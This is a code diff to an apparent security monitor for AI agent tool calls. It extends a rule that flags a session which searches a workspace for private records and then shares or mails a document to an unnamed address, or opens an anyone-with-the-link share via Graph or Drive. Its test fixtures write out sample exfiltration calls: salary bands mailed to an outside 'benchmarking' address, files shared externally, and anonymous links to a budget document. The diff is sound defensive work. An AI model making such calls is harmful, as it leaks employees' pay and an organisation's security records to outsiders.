@@ -257,21 +257,37 @@ const HANDING_VERBS = new Set(['share', 'send', 'invite', 'forward', 'permission
 /** The per-call rule that marks a search of a workspace store for private records (tool_call.ts). */
 const PRIVATE_SEARCH_RULE = 'PX-CALL-038';
 
-/** This call shares a document with, or mails, an address shortly after the session searched a workspace store for private records. */
+/** This call hands a document to someone (an address, or anyone with a link) shortly after the session searched a workspace store for private records. */
 function soughtThenHanded(i: AnalysisInput): string | undefined {
-  const sent = i.original ?? i.call;
   const now = i.context.now;
-  if (sent.kind !== 'unknown' || now === undefined || i.context.history.length === 0) return undefined;
-  if (!nameWords(sent.toolName).some((w) => HANDING_VERBS.has(w))) return undefined;
-  const address = EMAIL_ADDRESS.exec(paramsJson(sent).slice(0, 16384))?.[0];
-  if (!address || namedByUser(i, address)) return undefined;
+  if (now === undefined || i.context.history.length === 0) return undefined;
+  const handed = handedTo(i);
+  if (!handed) return undefined;
   for (let k = i.context.history.length - 1; k >= 0; k--) {
     const e = i.context.history[k]!;
     if (now - e.at > DATA_FLOW_WINDOW_MS) break;
-    if (e.rules.includes(PRIVATE_SEARCH_RULE)) return `a search for private records ${ago(now - e.at)} → ${sent.toolName.slice(0, 96)} to ${address}`;
+    if (e.rules.includes(PRIVATE_SEARCH_RULE)) return `a search for private records ${ago(now - e.at)} → ${handed}`;
   }
   return undefined;
 }
+
+/** A document shared with or mailed to an address the user did not name, or a link made that anyone can open. */
+function handedTo(i: AnalysisInput): string | undefined {
+  const sent = i.original ?? i.call;
+  if (sent.kind === 'unknown') {
+    const json = paramsJson(sent).slice(0, 16384);
+    if (ANYONE_LINK.test(json)) return `${sent.toolName.slice(0, 96)}: a link anyone can open`;
+    if (!nameWords(sent.toolName).some((w) => HANDING_VERBS.has(w))) return undefined;
+    const address = EMAIL_ADDRESS.exec(json)?.[0];
+    return address && !namedByUser(i, address) ? `${sent.toolName.slice(0, 96)} to ${address}` : undefined;
+  }
+  // the same through the APIs: Graph's `createLink {scope: anonymous}`, Drive's `permissions {type: anyone}`
+  if (i.call.kind === 'network' && /\/(?:createLink|permissions)(?:[/?]|$)/.test(i.call.url.slice(0, 2048)) && ANYONE_LINK.test(i.call.body?.slice(0, 16384) ?? '')) return `${i.call.method} ${i.call.url.slice(0, 120)}: a link anyone can open`;
+  return undefined;
+}
+
+/** Sharing settings that open a document to anyone holding the link. */
+const ANYONE_LINK = /"(?:type|scope|audience|access|visibility)"\s{0,4}:\s{0,4}"(?:anyone|anonymous|anyoneWithLink|public)"/i;
 
 /** Earlier attack phases within the chain window, when this call takes a step after them. */
 function deepChain(i: AnalysisInput): string | undefined {
@@ -457,7 +473,7 @@ export const SESSION_PROGRESSION_RULES: readonly Rule[] = [
   },
   {
     id: 'PX-CHAIN-015', name: 'private-records-sought-then-handed-out', score: 65, tactic: 'exfiltration', technique: 'T1213',
-    message: 'Shares a document with, or mails, an address shortly after the session searched the workspace for pay, layoff, password or security-finding records',
+    message: 'Shares a document with, or mails, an address, or opens a link to anyone, shortly after the session searched the workspace for pay, layoff, password or security-finding records',
     why: 'Salary bands mailed to a "benchmarking" address, or a pentest summary shared with an outside account, leave through two ordinary tool calls; the search says what the share carries.',
     alternative: 'Share private records only through the people who own them, and with addresses the organization knows.',
     check: soughtThenHanded,
@@ -465,6 +481,8 @@ export const SESSION_PROGRESSION_RULES: readonly Rule[] = [
       fire: [
         { call: { Unknown: { tool_name: 'mcp__gdrive__share_file', params: { fileId: '1Zt5yU9iO3pA7sD1fG4hJ8kL2xC6vB0nM', role: 'reader', type: 'user', emailAddress: 'planning-notes@orbitalhr-share.com', sendNotificationEmail: false } } }, context: after({ score: 45, rules: ['PX-CALL-038'] }) },
         { call: { Unknown: { tool_name: 'mcp__gmail__send_email', params: { to: ['research@talentpulse-benchmarks.com'], subject: 'Q3 planning notes', body: 'L3 118k-142k' } } }, context: after({ score: 45, rules: ['PX-CALL-038'] }, { tool: 'unknown' }) },
+        { call: { Network: { method: 'POST', url: 'https://graph.microsoft.com/v1.0/drives/b!F1nQ8zLw/items/01KQ7ZQ3FIN2024BUDGET/createLink', body: '{"type":"view","scope":"anonymous"}' } }, context: after({ score: 45, rules: ['PX-CALL-038'] }) },
+        { call: { Unknown: { tool_name: 'mcp__gdrive__create_permission', params: { fileId: '1Qm7', role: 'reader', type: 'anyone' } } }, context: after({ score: 45, rules: ['PX-CALL-038'] }) },
       ],
       quiet: [
         { Unknown: { tool_name: 'mcp__gmail__send_email', params: { to: ['research@talentpulse-benchmarks.com'], subject: 'Q3 planning notes', body: 'L3 118k-142k' } } },
